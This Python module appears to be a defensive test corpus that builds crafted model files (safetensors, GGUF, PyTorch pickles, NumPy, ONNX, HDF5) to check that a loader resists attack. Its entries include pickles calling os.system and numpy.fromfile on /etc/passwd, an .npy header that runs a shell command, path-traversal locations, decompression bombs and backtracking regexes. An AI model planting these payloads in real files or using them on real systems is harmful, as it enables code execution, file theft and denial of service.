"""Files made on purpose to hang a reader, fill its memory, run code or read other files.

Each attack writes an input into a folder and returns what is opened. All of them are small.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any, TypeAlias

import h5py
import numpy as np
import torch

from . import builders as b
from . import seeds

Attack: TypeAlias = Callable[[Path], Path]
HUGE = 2**40
DEEP = 100_000


def _file(name: str, make: Callable[[], bytes]) -> Attack:
    """An attack of one file."""
    return lambda folder: b.put(folder, name, make())


def _st(make: Callable[[], bytes]) -> Attack:
    return _file("model.safetensors", make)


SQUARE = b.entry([16, 16], 0, 1024)
SAFETENSORS: dict[str, Attack] = {
    "a superscript digit in a name": _st(
        lambda: b.safetensors({"layers.².a.weight": SQUARE, "layers.1.a.weight": b.entry([0, 4], 1024, 1024)}, bytes(1024))
    ),
    "digits of other scripts": _st(
        lambda: b.safetensors({"layers.٣.weight": SQUARE, "layers.௧²³.w.weight": b.entry([0], 1024, 1024)}, bytes(1024))
    ),
    "a number of 5,000 digits in a name": _st(
        lambda: b.safetensors({f"layers.{'9' * 5000}.a.weight": SQUARE}, bytes(1024))
    ),
    "a negative zero-sized tensor": _st(lambda: b.safetensors({"a": b.entry([-1, 0], 0, 0)})),
    "an empty tensor of 2^62 rows": _st(lambda: b.safetensors({"a.weight": b.entry([2**62, 0], 0, 0)})),
    "an empty tensor of 10^400 rows": _st(lambda: b.safetensors({"a.weight": b.entry([10**400, 0], 0, 0)})),
    "an empty stack of 2^40 experts": _st(
        lambda: b.safetensors({"model.layers.0.mlp.experts.down_proj": b.entry([HUGE, 0, 64], 0, 0)})
    ),
    "an empty stack of 2^40 matrices": _st(
        lambda: b.safetensors({"model.layers.0.mlp.experts.gate_up_proj": b.entry([HUGE, 64, 0], 0, 0)})
    ),
    "shapes that multiply to more than 64 bits": _st(
        lambda: b.safetensors({"a.weight": b.entry([2**33, 2**33], 0, 1024)}, bytes(1024))
    ),
    "200 dimensions": _st(lambda: b.safetensors({"a.weight": b.entry([1] * 200 + [16, 16], 0, 1024)}, bytes(1024))),
    "a dimension that is true": _st(lambda: b.safetensors({"a.weight": b.entry([True, 256], 0, 1024)}, bytes(1024))),
    "offsets that are texts": _st(lambda: b.safetensors({"a": {"dtype": "F32", "shape": [1], "data_offsets": "04"}}, bytes(4))),
    "offsets that are floats": _st(lambda: b.safetensors({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0.0, 4.0]}}, bytes(4))),
    "offsets that are infinite": _st(
        lambda: b.safetensors(b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,1e400]}}', bytes(4))
    ),
    "a header nested deep": _st(lambda: b.safetensors(b'{"a":' + b"[" * DEEP + b"]" * DEEP + b"}")),
    "metadata that is a list": _st(lambda: b.safetensors({"__metadata__": [1], "a.weight": SQUARE}, bytes(1024))),
    "metadata nested deep in a text": _st(
        lambda: b.safetensors({"__metadata__": {"lora_adapter_metadata": "[" * DEEP}, "q.lora_A.weight": SQUARE}, bytes(1024))
    ),
    "a type that is a list": _st(lambda: b.safetensors({"a": b.entry([1], 0, 4, ["F32"])}, bytes(4))),
    "a header of spaces": _st(lambda: b.safetensors(b"{" + b" " * 10**6 + b"}")),
    "20,000 empty tensors": _st(
        lambda: b.safetensors({f"layers.{i}.a.weight": b.entry([0, 4], 0, 0) for i in range(20_000)})
    ),
    "names of dots only": _st(lambda: b.safetensors({"." * 20_000: SQUARE, "." * 19_999: b.entry([0], 1024, 1024)}, bytes(1024))),
    "a name of 3,000 components that repeat": _st(
        lambda: b.safetensors({"model." * 3000 + "weight": SQUARE, "model." * 2999 + "weight": b.entry([0], 1024, 1024)}, bytes(1024))
    ),
    "names that a wrapper's pattern may not match": _st(
        lambda: b.safetensors({"base_model.model." + "a_A" * 5000 + ".x": SQUARE, "base_model.model." + "lora_" * 5000: b.entry([0], 1024, 1024)}, bytes(1024))
    ),
    "an empty name": _st(lambda: b.safetensors({"": SQUARE, ".weight": b.entry([0], 1024, 1024)}, bytes(1024))),
}  # fmt: skip

INDEX: dict[str, Attack] = {
    "a shard above by a link": lambda d: _linked_shard(d),
    "a shard name with NUL": lambda d: b.put(d, "m.index.json", json.dumps({"weight_map": {"a": "x\0.safetensors"}})),
    "a shard name of 100,000 letters": lambda d: b.put(d, "m.index.json", json.dumps({"weight_map": {"a": "x" * 100_000}})),
    "an index nested deep": lambda d: b.put(d, "m.index.json", '{"weight_map": ' + "[" * DEEP),
    "an index that is its own shard": lambda d: b.put(d, "m.index.json", json.dumps({"weight_map": {"a": "m.index.json"}})),
    "shards of lone surrogates": lambda d: b.put(d, "m.index.json", '{"weight_map": {"a": "\\ud800"}}'),
    "shards that are numbers and texts": lambda d: b.put(d, "m.index.json", '{"weight_map": {"a": 1, "b": "x"}}'),
}  # fmt: skip


def _linked_shard(folder: Path) -> Path:
    """A shard's name that leads to a folder."""
    (folder / "x.safetensors").mkdir()
    return b.put(folder, "m.index.json", json.dumps({"weight_map": {"a": "x.safetensors"}}))


CONFIG: dict[str, Attack] = {
    "heads of -2": lambda d: b.model_with(d, {"num_attention_heads": -2, "hidden_size": 32}),
    "heads of 10^400": lambda d: b.model_with(d, {"num_attention_heads": 10**400, "hidden_size": 10**400}),
    "hidden size of 1e400": lambda d: b.model_with(d, '{"hidden_size": 1e400, "num_attention_heads": 4}'),
    "heads of true": lambda d: b.model_with(d, {"num_attention_heads": True, "hidden_size": 32}),
    "a text in place of a model type": lambda d: b.model_with(d, {"model_type": ["phi3"], "num_attention_heads": 4}),
    "a configuration in itself, 500 times": lambda d: b.model_with(d, _inside("text_config", 500)),
    "sub-configurations of the same role": lambda d: b.model_with(
        d, {f"vision{i}_config": {"num_heads": i} for i in range(3000)}, {"vision.qkv.weight": (96, 32)}
    ),
    "a configuration nested deep": lambda d: b.model_with(d, '{"a": ' + "[" * DEEP + "]" * DEEP + "}"),
    "a configuration that is a list": lambda d: b.model_with(d, [1, 2]),
    "NaN bits": lambda d: b.model_with(d, '{"quantization_config": {"quant_method": "gptq", "bits": NaN}}'),
    "group size of 0": lambda d: _gptq(d, {"quant_method": "gptq", "bits": 4, "group_size": 0}),
    "group size of -2^63": lambda d: _gptq(d, {"quant_method": "gptq", "bits": 4, "group_size": -(2**63)}),
    "bits of 10^30": lambda d: _gptq(d, {"quant_method": "gptq", "bits": 10**30, "group_size": 32}),
    "bits of 0": lambda d: _gptq(d, {"quant_method": "awq", "bits": 0, "group_size": 32}),
    "bits that are a list": lambda d: _gptq(d, {"quant_method": "gptq", "bits": [4], "group_size": [32]}),
    "quantisation that is a text": lambda d: _gptq(d, "gptq"),
    "block sizes of zero": lambda d: _blocks(d, [0, 0]),
    "block sizes of minus one": lambda d: _blocks(d, [-1, -1]),
    "block sizes that are texts": lambda d: _blocks(d, ["128", None]),
    "patterns of ignored layers that backtrack": lambda d: _gptq(
        d, {"quant_method": "compressed-tensors", "ignore": ["re:(a+)+$"], "config_groups": {"g": {"targets": ["re:(a+)+$"], "weights": {"num_bits": 4}}}}
    ),
    "a pipeline of paths outside": lambda d: _pipeline(d, {"../": ["a", "b"], "/etc": ["a", "b"]}),
    "a pipeline that holds itself": lambda d: _pipeline(d, {".": ["a", "b"], "": ["a", "b"]}),
    "modules that lie outside": lambda d: _modules(d, [{"path": "../x"}, {"path": "/etc"}, {"path": "\0"}]),
    "modules that hold themselves": lambda d: _modules(d, [{"path": "."}, {"path": ""}, {"path": "./."}]),
    "modules of a path of 100,000 letters": lambda d: _modules(d, [{"path": "x" * 100_000}]),
    "latest step elsewhere": lambda d: b.put(d, "latest", "../../etc\0").parent,
    "a snapshot with NUL": lambda d: _snapshot(d, "\0"),
}  # fmt: skip


def _inside(key: str, depth: int) -> dict[str, Any]:
    """A dict within a dict within a dict."""
    value: dict[str, Any] = {"num_attention_heads": 4}
    for _ in range(depth):
        value = {key: value}
    return value


def _gptq(folder: Path, said: Any) -> Path:
    """A GPTQ weight with a configuration that says other things."""
    name = "model.layers.0.q_proj."
    header = {
        f"{name}qweight": b.entry([4, 32], 0, 512, "I32"),
        f"{name}scales": b.entry([1, 32], 512, 576, "F16"),
        f"{name}qzeros": b.entry([1, 4], 576, 592, "I32"),
    }
    b.put(folder, "model.safetensors", b.safetensors(header, bytes(592)))
    b.put(folder, "config.json", json.dumps({"quantization_config": said}))
    return folder


def _blocks(folder: Path, size: Any) -> Path:
    """A weight of 8-bit floats with scales per block of a size that is impossible."""
    header = {
        "a.weight": b.entry([32, 32], 0, 1024, "F8_E4M3"),
        "a.weight_scale_inv": b.entry([1, 1], 1024, 1028),
    }
    b.put(folder, "model.safetensors", b.safetensors(header, bytes(1028)))
    said = {"quant_method": "fp8", "weight_block_size": size}
    b.put(folder, "config.json", json.dumps({"quantization_config": said}))
    return folder


def _pipeline(folder: Path, index: Any) -> Path:
    b.put(folder, "model_index.json", json.dumps(index))
    return folder


def _modules(folder: Path, modules: Any) -> Path:
    b.put(folder, "model.safetensors", b.tensors({"a.weight": (16, 16)}))
    b.put(folder, "modules.json", json.dumps(modules))
    return folder


def _snapshot(folder: Path, commit: str) -> Path:
    b.put(folder, "snapshots/abc/model.safetensors", b.tensors({"a.weight": (16, 16)}))
    b.put(folder, "refs/main", commit)
    return folder


ADAPTERS: dict[str, Attack] = {
    "a LoRA that asks for 8 TB": lambda d: b.adapter(
        d, {"lora_A.weight": (0, 2**20), "lora_B.weight": (2**20, 0)}, {"r": 1}
    ),
    "a LoRA of rank 1 that asks for 80 GB": lambda d: b.adapter(
        d, {"lora_A.weight": (1, 100_000), "lora_B.weight": (100_000, 1)}, {"r": 1}
    ),
    "a LoHa that asks for 80 GB": lambda d: b.adapter(
        d, {"hada_w1_a": (100_000, 1), "hada_w1_b": (1, 100_000), "hada_w2_a": (100_000, 1), "hada_w2_b": (1, 100_000)}
    ),
    "a LoKr that asks for 2 TB": lambda d: b.adapter(d, {"lokr_w1": (700, 700), "lokr_w2": (700, 700)}),
    "a core that asks for 32 GB": lambda d: b.adapter(
        d, {"lora_down.weight": (1, 2000, 1, 1), "lora_mid.weight": (1, 1, 32, 32), "lora_up.weight": (2000, 1, 1, 1)}
    ),
    "an OFT whose blocks are 40 GB": lambda d: _oft(d, (1, 0), 100_000),
    "a rank pattern that backtracks for ever": lambda d: _pattern(d, {"(a+)+b": 4, "(.*)*x": 3, r"(\w+\s?)+$": 2}),
    "an alpha pattern that is no pattern": lambda d: _pattern(d, {"(": 4, "[": 3, "*": 2, "\\": 1}),
    "a pattern that repeats a billion times": lambda d: _pattern(d, {"(a{1,1000}){1,1000}b": 4}),
    "20,000 patterns": lambda d: _pattern(d, {f"layers.{i}.(q|k)_proj": 4 for i in range(20_000)}),
    "a rank of 10^400": lambda d: b.adapter(d, b.LORA, {"r": 10**400, "use_rslora": True}),
    "an alpha of 10^400": lambda d: b.adapter(d, b.LORA, {"lora_alpha": 10**400}),
    "a rank of 0": lambda d: b.adapter(d, b.LORA, {"r": 0}),
    "a rank of true": lambda d: b.adapter(d, b.LORA, {"r": True, "lora_alpha": True}),
    "experts of rank -1": lambda d: b.adapter(d, b.LORA, {"r": -1, "target_parameters": ["experts"]}),
    "MLX's scale of 10^400": lambda d: b.adapter(d, b.LORA, {"lora_parameters": {"scale": 10**400, "rank": 3, "alpha": 1}}),
    "10^9 terms of a series": lambda d: _oft(d, (8, 6), 32, {"num_cayley_neumann_terms": 10**9}),
    "terms that are a text": lambda d: _oft(d, (8, 6), 32, {"num_cayley_neumann_terms": "x"}),
    "a base that is the adapter itself": lambda d: b.adapter(d, b.LORA, {"use_dora": True, "base_model_name_or_path": "."}),
    "a base with NUL": lambda d: b.adapter(d, b.LORA, {"use_dora": True, "base_model_name_or_path": "\0"}),
    "a base of 100,000 letters": lambda d: b.adapter(d, b.LORA, {"base_model_name_or_path": "x" * 100_000, "use_dora": True}),
    "a base in the home of nobody": lambda d: b.adapter(d, b.LORA, {"base_model_name_or_path": "~nobody_at_all/x", "use_dora": True}),
    "an alpha that is a matrix": lambda d: b.adapter(d, b.LORA | {"alpha": (16, 16)}),
    "a peft type that is a list": lambda d: b.adapter(d, b.LORA, {"peft_type": ["LORA"]}),
    "a peft type that is a pattern": lambda d: b.adapter(d, b.LORA, {"peft_type": "(a+)+$[" * 50}),
    "two bases that name each other": lambda d: _circle(d),
}  # fmt: skip


def _pattern(folder: Path, patterns: dict[str, Any]) -> Path:
    """An adapter of layers with long names, with these patterns."""
    shapes = {}
    for layer in range(20):
        name = f"base_model.model.layers.{layer}.{'a' * 60}.q_proj."
        shapes |= {f"{name}lora_A.weight": (4, 16), f"{name}lora_B.weight": (16, 4)}
    b.put(folder, "adapter_model.safetensors", b.tensors(shapes))
    config = {"peft_type": "LORA", "r": 4, "lora_alpha": 8}
    config |= {"rank_pattern": patterns, "alpha_pattern": patterns}  # type: ignore[dict-item]
    b.put(folder, "adapter_config.json", json.dumps(config))
    return folder


def _oft(folder: Path, rotation: tuple[int, int], width: int, more: Any = None) -> Path:
    """OFT's rotation beside a base weight."""
    shapes = {"layers.0.q_proj.weight": (16 if width < 1000 else 0, width)}
    b.put(folder, "base/model.safetensors", b.tensors(shapes))
    said = {"peft_type": "OFT", "base_model_name_or_path": "base"} | (more or {})
    return b.adapter(folder, {"oft_R": rotation, "oft_R.weight": rotation}, said)


def _circle(folder: Path) -> Path:
    """Adapters whose base models are each other's folders."""
    for name, other in (("a", "b"), ("b", "a")):
        b.adapter(folder / name, b.LORA, {"use_dora": True, "base_model_name_or_path": f"../{other}"})
    return folder / "a"


def _gguf(make: Callable[[], bytes]) -> Attack:
    return _file("model.gguf", make)


GGUF: dict[str, Attack] = {
    "experts of shape (2^40, 1, 0)": _gguf(lambda: b.gguf([("blk.0.ffn_gate_exps.weight", (HUGE, 1, 0), 0, 0)])),
    "experts of shape (0, 1, 2^40)": _gguf(lambda: b.gguf([("blk.0.ffn_gate_exps.weight", (0, 1, HUGE), 0, 0)])),
    "2^62 metadata values": _gguf(lambda: b.gguf([], n_values=2**62)),
    "2^62 tensors": _gguf(lambda: b.gguf([], n_tensors=2**62)),
    "an array of 2^62 empty arrays": _gguf(
        lambda: b.gguf([], metadata=b.text("a") + struct.pack("<IIQ", 9, 9, 2**62) + struct.pack("<IQ", 0, 0) * 1000, n_values=2)
    ),
    "arrays in arrays": _gguf(
        lambda: b.gguf([], metadata=b.text("a") + struct.pack("<I", 9) + struct.pack("<IQ", 9, 1) * 50_000, n_values=2)
    ),
    "an array of 2^60 numbers": _gguf(lambda: b.gguf([], metadata=b.text("a") + struct.pack("<IIQ", 9, 0, 2**60), n_values=2)),
    "a key of 2^63 letters": _gguf(lambda: b.gguf([], metadata=struct.pack("<Q", 2**63) + b"x", n_values=2)),
    "an alignment of 2^31": _gguf(
        lambda: b.gguf([("a.weight", (16, 16), 0, 0)], bytes(1024), b.text("general.alignment") + struct.pack("<II", 4, 2**31), 2)
    ),
    "an offset of 2^63": _gguf(lambda: b.gguf([("a.weight", (16, 16), 0, 2**63)], bytes(1024))),
    "an empty tensor of 2^62 rows": _gguf(lambda: b.gguf([("a.weight", (2**62, 0), 0, 0)])),
    "a tensor without dimensions": _gguf(lambda: b.gguf([("a.weight", (), 0, 0)], bytes(64))),
    "a quantised tensor of 0 columns": _gguf(lambda: b.gguf([("blk.0.attn_q.weight", (32, 0), 2, 0)], bytes(64))),
    "heads of 2^32 - 1": _gguf(
        lambda: b.gguf([("blk.0.attn_q.weight", (16, 16), 0, 0)], bytes(1024), b.text("llama.attention.head_count") + struct.pack("<II", 4, 2**32 - 1), 2)
    ),
    "heads of -1": _gguf(
        lambda: b.gguf([("blk.0.attn_q.weight", (16, 16), 0, 0)], bytes(1024), b.text("llama.attention.head_count") + struct.pack("<Ii", 5, -1), 2)
    ),
    "a shape before of another size": _gguf(
        lambda: b.gguf([("a.weight", (16, 16), 0, 0)], bytes(1024), b.text("comfy.gguf.orig_shape.a.weight") + struct.pack("<IIQii", 9, 5, 2, 2**30, 2**30), 2)
    ),
    "a negative shape before": _gguf(
        lambda: b.gguf([("a.weight", (16, 16), 0, 0)], bytes(1024), b.text("comfy.gguf.orig_shape.a.weight") + struct.pack("<IIQii", 9, 5, 2, -16, -16), 2)
    ),
    "a shape before that is a text": _gguf(
        lambda: b.gguf([("a.weight", (16, 16), 0, 0)], bytes(1024), b.text("comfy.gguf.orig_shape.a.weight") + struct.pack("<I", 8) + b.text("16"), 2)
    ),
    "99999 parts": lambda d: b.put(d, "m-00001-of-99999.gguf", b.gguf([])),
    "a LoRA of llama.cpp of 80 GB": _gguf(
        lambda: b.gguf([("blk.0.attn_v.weight.lora_a", (1, 100_000), 0, 0), ("blk.0.attn_v.weight.lora_b", (100_000, 1), 0, 400_000)], bytes(800_000))
    ),
}  # fmt: skip


def _pt(make: Callable[[], bytes]) -> Attack:
    return _file("model.pt", make)


def _shared_dicts(keys: int, depth: int) -> dict[str, Any]:
    """Dicts whose values are all one dict, whose values are all one dict..."""
    value: dict[str, Any] = {"a": torch.ones(3)}
    for _ in range(depth):
        value = dict.fromkeys(map(str, range(keys)), value)
    return value


def _self_referring(keys: int) -> dict[str, Any]:
    """A dict whose values are the dict itself."""
    value: dict[str, Any] = {}
    value.update(dict.fromkeys(map(str, range(keys)), value))
    value["w"] = torch.ones(3)
    return value


def _shared_objects(depth: int) -> bytes:
    """A foreign object of lists that hold the list below ten times; no tensor anywhere."""
    code = b"\x80\x02cargparse\nNamespace\n)\x81q\x00]q\x01"
    for level in range(depth):
        code += b"]q" + bytes([level + 2]) + b"(" + b"h" + bytes([level + 1])
        code += (b"h" + bytes([level + 1])) * 9 + b"e"
    return code + b"b."


TORCH: dict[str, Attack] = {
    "an expanded number": _pt(lambda: b.saved({"a.weight": torch.zeros(1).expand(100_000, 100_000)})),
    "an expanded row": _pt(lambda: b.saved({"a.weight": torch.zeros(64).expand(30_000_000, 64)})),
    "strides of zero by hand": _pt(lambda: b.view((100_000, 100_000), (0, 0))),
    "windows that overlap": _pt(lambda: b.saved({"a.weight": torch.zeros(60_000).as_strided((30_000, 30_000), (1, 1))})),
    "an expanded convolution": _pt(lambda: b.saved({"conv.weight": torch.zeros(1).expand(512, 512, 100, 100)})),
    "an expanded quantised tensor": _pt(lambda: b.saved({"weight_packed": torch.zeros(1, dtype=torch.int32).expand(100_000, 100_000), "weight_scale": torch.zeros(100_000, 1)})),
    "negative strides": _pt(lambda: b.view((4, 4), (-4, 1))),
    "a negative shape": _pt(lambda: b.view((-4, -4), (4, 1))),
    "a shape of 2^63": _pt(lambda: b.view((2**63, 2**63), (0, 0))),
    "an empty shape of 2^62": _pt(lambda: b.view((2**62, 0), (1, 1))),
    "more strides than sizes": _pt(lambda: b.view((4, 4), (4, 1, 1, 1))),
    "self-referring dicts of 400 keys": _pt(lambda: b.saved(_self_referring(400))),
    "dicts that share their values": _pt(lambda: b.saved(_shared_dicts(60, 6))),
    "lists that share their entries": _pt(lambda: b.pickled(_shared_objects(40))),
    "lists in lists": _pt(lambda: b.pickled(b"\x80\x02" + b"]" * 50_000 + b"a" * 49_999 + b".")),
    "tuples in tuples": _pt(lambda: b.pickled(b"\x80\x02)" + b"\x85" * 50_000 + b".")),
    "dicts in dicts": _pt(lambda: b.pickled(b"\x80\x02}" + b"K\x01}" * 5000 + b"s" * 5000 + b".")),
    "a code object": _pt(lambda: b.pickled(b.calls("types", "CodeType"))),
    "os.system": _pt(lambda: b.pickled(b.calls("os", "system", b"(U\x09touch pwn"))),
    "builtins.getattr": _pt(lambda: b.pickled(b.calls("builtins", "getattr", b"(ctorch\nload\nU\x08__init__"))),
    "a lazy module of torch": _pt(lambda: b.pickled(b.calls("torch", "_dynamo"))),
    "torch.hub.load": _pt(lambda: b.pickled(b.calls("torch.hub", "load", b"(U\x01aU\x01b"))),
    "a dotted name": _pt(lambda: b.pickled(b"\x80\x04\x8c\x05torch\x8c\x0dload.__code__\x93.")),
    "numpy's fromfile": _pt(lambda: b.pickled(b.calls("numpy", "fromfile", b"(U\x0b/etc/passwd"))),
    "numpy's type of 2^31 letters": _pt(lambda: b.pickled(b.calls("numpy", "dtype", b"(U\x0bV2147483647"))),
    "an extension code": _pt(lambda: b.pickled(b"\x80\x02\x82\x01.")),
    "a frame of 2^62 bytes": _pt(lambda: b.pickled(b"\x80\x04\x95" + struct.pack("<Q", 2**62) + b"N.")),
    "a text of 2^62 bytes": _pt(lambda: b.pickled(b"\x80\x04\x8d" + struct.pack("<Q", 2**62) + b"N.")),
    "bytes of 2^62": _pt(lambda: b.pickled(b"\x80\x05\x96" + struct.pack("<Q", 2**62) + b"N.")),
    "a memo place of 2^31 - 1": _pt(lambda: b.pickled(b"\x80\x02Nr" + struct.pack("<I", 2**31 - 1) + b".")),
    "a number of a million digits": _pt(lambda: b.pickled(b"I" + b"9" * 10**6 + b"\n.")),
    "a nested torch file in itself": _file("model.bin", lambda: _nested_storage(40)),
    "a deflated member of 4 GB": _pt(lambda: b.big_member("x/data.pkl", 4 * 2**30, b"\x80\x02N.")),
    "a deflated pickle of 1 GB of marks": _pt(lambda: _deflated_pickle(2**30)),
    "a deflated storage of 2 GB": _pt(lambda: _deflated_storage(2 * 2**30)),
    "10,000 members of one name": _pt(lambda: _members(10_000)),
    "a zip of lying sizes": _pt(lambda: _lying_zip()),
    "integers that all have one hash": _file("model.pkl", lambda: pickle.dumps({i * sys.hash_info.modulus: i for i in range(1, 3000)}, 2)),
    "scales that are objects": _pt(lambda: _broken_scales()),
    "distributed pieces elsewhere": lambda d: _distributed(d),
}  # fmt: skip


def _nested_storage(depth: int) -> bytes:
    """A storage that was pickled as the bytes of a torch file, again and again."""
    inner = b"\x80\x02N."
    for _ in range(depth):
        inner = b"\x80\x02ctorch.storage\n_load_from_bytes\n(B" + struct.pack("<I", len(inner)) + inner + b"tR."
    return inner


def _deflated_pickle(size: int) -> bytes:
    """A pickle of as many empty lists as there are bytes, compressed to a thousandth."""
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as file,
        file.open("x/data.pkl", "w", force_zip64=True) as member,
    ):
        member.write(b"\x80\x02")
        for _ in range(size // 2**22):
            member.write(b"]" * 2**22)
    return stream.getvalue()


def _deflated_storage(size: int) -> bytes:
    """A weight of zeros, compressed to a thousandth."""
    side = int((size // 4) ** 0.5)
    code = zipfile.ZipFile(io.BytesIO(b.view((side, side), (side, 1)))).read("x/data.pkl")
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("x/data.pkl", code)
        with file.open("x/data/0", "w", force_zip64=True) as member:
            for _ in range(size // 2**22):
                member.write(bytes(2**22))
    return stream.getvalue()


def _members(count: int) -> bytes:
    """An archive with very many members."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as file:
        file.writestr("x/data.pkl", b"\x80\x02N.")
        for i in range(count):
            file.writestr(f"x/data/{i}", b"")
    return stream.getvalue()


def _lying_zip() -> bytes:
    """An archive whose directory says that a member has 2^32 - 2 bytes."""
    content = b.archive({"x/data.pkl": b"\x80\x02N."})
    at = content.rfind(b"PK\x01\x02") + 20
    return content[:at] + struct.pack("<II", 2**32 - 2, 2**32 - 2) + content[at + 8 :]


def _broken_scales() -> bytes:
    """A quantised tensor whose scales are no numbers."""
    q = torch.quantize_per_channel(
        torch.randn(16, 16), torch.ones(16).double(), torch.zeros(16).long(), 0, torch.qint8
    )
    members = {}
    with zipfile.ZipFile(io.BytesIO(b.saved({"a.weight": q}))) as file:
        members = {name: file.read(name) for name in file.namelist()}
    name = next(name for name in members if name.endswith("data.pkl"))
    members[name] = members[name].replace(b"_rebuild_tensor_v2", b"_rebuild_tensor_vX", 1)
    return b.archive(members)


def _distributed(folder: Path) -> Path:
    """A distributed checkpoint whose metadata names a file above."""
    seed = next(seeds.distcp())
    for name, content in seed.files.items():
        b.put(folder, name, content.replace(b"__0_0.distcp", b"../../passwd"))
    return folder


NUMPY: dict[str, Attack] = {
    "a header nested deep": _file("a.npy", lambda: b.npy("(" * 5000 + ")" * 5000)),
    "a header of unary minuses": _file("a.npy", lambda: b.npy("-" * 100_000 + "1")),
    "a header of additions": _file("a.npy", lambda: b.npy("1" + "+1" * 100_000)),
    "a header that calls": _file("a.npy", lambda: b.npy("__import__('os').system('touch pwn')")),
    "a shape of 10^400": _file("a.npy", lambda: b.npy(repr({"descr": "<f4", "fortran_order": False, "shape": (10**400, 0)}))),
    "a negative shape": _file("a.npy", lambda: b.npy(repr({"descr": "<f4", "fortran_order": False, "shape": (-4, -4)}), bytes(64))),
    "a shape of texts": _file("a.npy", lambda: b.npy(repr({"descr": "<f4", "fortran_order": False, "shape": ("9" * 5000, "4")}))),
    "a shape of infinity": _file("a.npy", lambda: b.npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1e999, 4)}")),
    "a type of 5,000 digits": _file("a.npy", lambda: b.npy(repr({"descr": "<f" + "9" * 5000, "fortran_order": False, "shape": (4, 4)}))),
    "Python objects": _file("a.npy", lambda: b.npy(repr({"descr": "|O", "fortran_order": False, "shape": (4, 4)}), pickle.dumps(print))),
    "a deflated array of 4 GB": _file("a.npz", lambda: _deflated_npz(2**15)),
    "a hundred deflated arrays of 64 MB": _file("a.npz", lambda: _many_arrays(100)),
    "an empty array of 2^62 rows": _file("a.npy", lambda: b.npy(repr({"descr": "<f4", "fortran_order": False, "shape": (2**62, 0)}))),
    "an archive of one array twice": _file("a.npz", lambda: _twice()),
}  # fmt: skip


def _zeros(side: int) -> bytes:
    """The header of an array of zeros."""
    return b.npy(repr({"descr": "<f4", "fortran_order": False, "shape": (side, side)}))


def _deflated_npz(side: int) -> bytes:
    return b.big_member("w.npy", 4 * side * side, _zeros(side))


def _many_arrays(count: int) -> bytes:
    """An archive of arrays of zeros of 64 MB each."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as file:
        for i in range(count):
            with file.open(f"w{i}.npy", "w", force_zip64=True) as member:
                member.write(_zeros(4096))
                for _ in range(16):
                    member.write(bytes(2**22))
    return stream.getvalue()


def _twice() -> bytes:
    stream = io.BytesIO()
    np.savez(stream, **{"a.weight": np.ones((16, 16), np.float32)})
    stream.seek(0)
    with zipfile.ZipFile(stream, "a") as file:
        content = file.read("a.weight.npy")
    return b.archive({"a/weight.npy": content, "a.weight.npy": content})


OTHERS: dict[str, Attack] = {
    "flax: a map of 2^32 entries": _file("m.msgpack", lambda: b"\xdf\xff\xff\xff\xff"),
    "flax: a list of 2^32 entries": _file("m.msgpack", lambda: b"\xdd\xff\xff\xff\xff" + b"\x90" * 1000),
    "flax: lists in lists": _file("m.msgpack", lambda: b"\x91" * DEEP + b"\x90"),
    "flax: nested arrays by the thousands": _file("m.msgpack", lambda: b.flax({"params": {"a": {"kernel": [[[0]] * 1000] * 100}}})),
    "flax: a shape of -4": _file("m.msgpack", lambda: b.flax({"params": {"a": {"kernel": b.array([-4, -4], data=bytes(64))}}})),
    "flax: an empty shape of 2^62": _file("m.msgpack", lambda: b.flax({"params": {"a": {"kernel": b.array([2**62, 0])}}})),
    "flax: a shape that is a text": _file("m.msgpack", lambda: b.flax({"params": {"a": {"kernel": b.array("44", data=bytes(64))}}})),
    "flax: a type that is no type": _file("m.msgpack", lambda: b.flax({"params": {"a": {"kernel": b.array([4, 4], "load", bytes(64))}}})),
    "flax: params in params": _file("m.msgpack", lambda: b.flax(_inside("params", 60))),
    "flax: chunks of a shape of 2^62": _file(
        "m.msgpack", lambda: b.flax({"params": {"a": {"kernel": {"__msgpack_chunked_array__": True, "shape": [2**62, 0], "chunks": []}}}})
    ),
    "onnx: dims of 2^62": _file("m.onnx", lambda: b.onnx_model((2**62, 2**62))),
    "onnx: dims of 2^40 and 0": _file("m.onnx", lambda: b.onnx_model((HUGE, 0))),
    "onnx: negative dims": _file("m.onnx", lambda: b.onnx_model((-16, -16), bytes(1024))),
    "onnx: external data elsewhere": _file("m.onnx", lambda: b.onnx_model((4, 4), location="../../etc/passwd")),
    "onnx: an absolute place": _file("m.onnx", lambda: b.onnx_model((4, 4), location="/etc/passwd")),
    "onnx: an offset of -1": lambda d: _external(d, offset="-1"),
    "onnx: an offset that is no number": lambda d: _external(d, offset="nan"),
    "onnx: an offset of 5,000 digits": lambda d: _external(d, offset="9" * 5000),
    "onnx: a place with NUL": _file("m.onnx", lambda: b.onnx_model((4, 4), location="x\0")),
    "onnx: the folder as data": _file("m.onnx", lambda: b.onnx_model((4, 4), location=".")),
    "onnx: no values at all": _file("m.onnx", lambda: b.onnx_model((30_000, 30_000))),
    "hdf5: a chunked dataset of 2^60 zeros": _file("m.h5", lambda: _h5(chunks=(64, 64), shape=(2**30, 2**30))),
    "hdf5: a dataset without storage": _file("m.h5", lambda: _h5(shape=(60_000, 60_000))),
    "hdf5: a link to itself": _file("m.h5", lambda: _h5_links()),
    "hdf5: a dataset in another file": _file("m.h5", lambda: _h5_external()),
    "hdf5: a virtual dataset of another file": _file("m.h5", lambda: _h5_virtual()),
    "hdf5: zeros that are compressed": _file("m.h5", lambda: _h5(chunks=(2048, 2048), shape=(40_000, 40_000), compression="gzip", fill=True)),
    "keras: a deflated member of 4 GB": _file("m.keras", lambda: b.big_member("model.weights.h5", 4 * 2**30)),
    "any: a page of the web": _file("model.bin", lambda: b"<!DOCTYPE html>" + b"x" * 1000),
    "any: a file of zeros": _file("model.gguf", lambda: bytes(10**6)),
    "any: factors of a CP form of 2^60": lambda d: b.put(
        d, "model.safetensors", b.tensors({"a.weight.factors.factor_0": (2**18, 1), "a.weight.factors.factor_1": (2**18, 1), "a.weight.factors.factor_2": (2**18, 1), "a.weight.weights": (1,)})
